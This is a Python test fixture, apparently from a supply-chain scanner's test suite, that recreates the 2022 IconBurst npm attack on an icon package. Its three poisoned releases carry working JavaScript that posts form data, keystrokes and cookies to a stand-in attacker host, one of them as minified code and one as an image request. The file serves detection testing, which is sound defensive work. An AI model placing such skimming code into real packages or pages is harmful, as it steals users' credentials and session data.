"""IconBurst, 2022: packages for web pages that send every form to the attacker as well.

Two dozen packages that looked like icon sets and interface kits, some with names close to popular
ones, took what was typed into forms wherever they were loaded, and posted it.

Post-mortem: "IconBurst npm software supply chain attack grabs data from apps and websites"
(ReversingLabs, 2022-07).
In the staged tarball: new code that reads forms, keys or cookies and sends to a fixed address.
"""

from tests.findings.attack import Attack, one_line, release

_SOURCE = """\
$.fn.icons = function (options) {
  return this.each(function () {
    $(this).addClass('icon icon-' + (options.name || $(this).data('icon')));
  });
};
"""
_NEXT = _SOURCE.replace("$(this).data('icon')", "$(this).attr('data-icon')")
_FORMS = """
$(document).ajaxComplete(function () {
  $('form').on('submit', function () {
    var typed = $(this).serialize();<<<page-theft>>>
    $.ajax({ url: 'https://icons.example.invalid/save.php', type: 'POST', data: typed });
  });
});
"""
_KEYS = one_line("""
    ;(()=>{let b="";document.addEventListener("keydown",e=>{b+=e.key;b.length>40&&(navigator
    .sendBeacon("https://icons.example.invalid/k",b+"|"+document.cookie),b="")})})();<<<page-theft>>>
""")
_PICTURE = """
new Image().src = 'https://icons.example.invalid/i.gif?' + encodeURIComponent(document.cookie);<<<page-theft>>>
"""

ATTACK = Attack(
    before=release("icon-marks", "4.0.1", {"index.js": _SOURCE}),
    unharmed=release("icon-marks", "4.0.2", {"index.js": _NEXT}),
    after={
        "forms": release("icon-marks", "4.0.2", {"index.js": _NEXT + _FORMS}),
        "keys, minified": release("icon-marks", "4.0.2", {"index.js": _NEXT + _KEYS + "\n"}),
        "cookies in a picture's address": release(
            "icon-marks", "4.0.2", {"index.js": _NEXT + _PICTURE}
        ),
    },
)
